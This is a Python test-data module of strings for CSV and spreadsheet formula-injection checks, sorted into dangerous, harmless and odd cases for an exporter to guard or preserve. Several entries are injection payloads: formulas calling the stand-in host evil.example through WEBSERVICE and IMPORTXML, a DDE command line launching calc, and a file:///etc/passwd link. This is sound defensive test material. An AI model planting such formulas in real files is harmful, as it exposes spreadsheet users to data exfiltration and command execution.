"""Texts that try to run when a file is opened, and texts that only look like it."""

from __future__ import annotations

DANGEROUS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u2003-1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "=cmd|'/c calc'!A1",
    "@x",
    "-x",
    "+33 6 39 98 00 01",
    "=",
    "-",
    "--1",
    "-1e5",
    "+1234567890123456",
    "-1;=1",
)  # fmt: skip
"""A CSV must guard each of them."""

HARMLESS: tuple[str, ...] = (
    "+33639980001",
    "-12",
    "-12,5",
    "-12.50",
    "12",
    "0639980001",
    "Le Gall",
    "O'Connor",
    "a=b",
    "été",
    "1+1",
    "",
)
"""A CSV must leave each of them as it is."""

ODD: tuple[str, ...] = (
    '"=1+1',
    "'=1+1",
    "{=1+1}",
    "http://example.org",
    "mailto:a@example.org",
    "file:///etc/passwd",
    "internal:Sheet2!A1",
    "a;b\"c'd",
    "two\nlines",
    "_x0041_",
    "<b>gras</b> & co",
    "#REF!",
    "TRUE",
    "01000",
    "2026-11-22",
    "1E5",
    "𝒳 😀",
)
"""A workbook must keep each of them as text, letter for letter."""
